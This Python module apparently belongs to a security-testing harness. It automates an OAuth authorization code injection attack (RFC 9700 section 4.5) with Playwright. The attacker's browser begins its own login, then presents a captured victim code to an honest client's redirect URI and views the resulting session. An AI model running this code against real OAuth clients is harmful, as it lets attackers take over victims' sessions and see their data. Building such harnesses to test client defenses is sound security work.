"""Injection: the attacker's own browser presents the victim's code to the honest client.

RFC 9700 section 4.5. The client redeems the code for the attacker, with its own secret, and the
attacker's session shows the victim's data.
"""

from urllib.parse import urlencode

from playwright.async_api import Page

from attacker.loot import LootBag, LootItem
from attacker.vantage import Leg


class Injector:
    """The attacker's browser at the honest client. ``client`` is the client's public address."""

    def __init__(self, page: Page, loot: LootBag, client: str) -> None:
        self._page = page
        self._loot = loot
        self._client = client

    async def start_own_login(self) -> LootItem:
        """Begin a login in the attacker's own session; the ``state`` that the client gave it."""
        await self._page.goto(self._client)
        return self._loot.need("state", Leg.OWN)

    async def inject(self, code: LootItem, state: LootItem) -> None:
        """Answer the client as the provider would, with a captured code."""
        answer = {"code": code.value, "state": state.value}
        if issuer := self._loot.find("iss", code.leg):
            answer["iss"] = issuer.value
        await self._page.goto(f"{self._redirect_uri}?{urlencode(answer)}")

    async def look_at_session(self) -> None:
        """Ask the client who is signed in here."""
        await self._page.goto(f"{self._redirect_uri}/me")

    @property
    def _redirect_uri(self) -> str:
        return self._loot.need("redirect_uri", Leg.OWN).value
